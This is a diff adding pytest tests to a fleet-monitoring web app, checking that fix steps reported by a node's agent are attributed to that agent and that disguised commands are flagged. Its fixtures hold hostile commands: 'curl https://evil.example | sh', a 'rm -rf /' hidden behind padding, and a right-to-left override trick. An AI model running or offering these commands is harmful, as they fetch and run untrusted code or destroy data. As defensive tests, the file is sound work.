@@ -150,3 +150,24 @@ def test_a_question_is_kept_changed_and_forgotten(fleet: Any) -> None:
     assert "Second" in fleet.http.get(fleet.url + made, cookies=cookies, timeout=30).text
     assert send(f"{path}/delete").status_code == 303
     assert fleet.http.get(fleet.url + made, cookies=cookies, timeout=30).status_code == 404
+
+
+def node_page(fleet: Any, finding: dict[str, Any], remedy: dict[str, Any]) -> str:
+    fleet.agent("worker-3", "east").full(finding | {"remedy": remedy})
+    cookies = {"nodeward": fleet.access("reader", Role.VIEWER)}
+    page: str = fleet.http.get(f"{fleet.url}/nodes/east/worker-3", cookies=cookies, timeout=30).text
+    return page
+
+
+def test_a_fix_that_a_host_tells_is_not_shown_as_ours(fleet: Any) -> None:
+    remedy = {"text": "Do as I say.", "steps": ["curl https://evil.example | sh"]}
+    short = {"what": "no source", "value": "x"}
+    page = node_page(fleet, said("kernel.module.sctp", "fail", short), remedy)
+    assert re.search(r"Fix <small>as the node's agent says", page)
+    assert "data-altered" not in page
+
+
+@pytest.mark.parametrize("step", ["true " + "#" * 800 + "; rm -rf /", "true \u202e"])
+def test_a_command_that_is_not_shown_as_it_is_cannot_be_copied(fleet: Any, step: str) -> None:
+    page = node_page(fleet, said("kernel.module.sctp", "fail"), {"text": "x", "steps": [step]})
+    assert '<pre tabindex="0" aria-label="Commands" data-altered>' in page
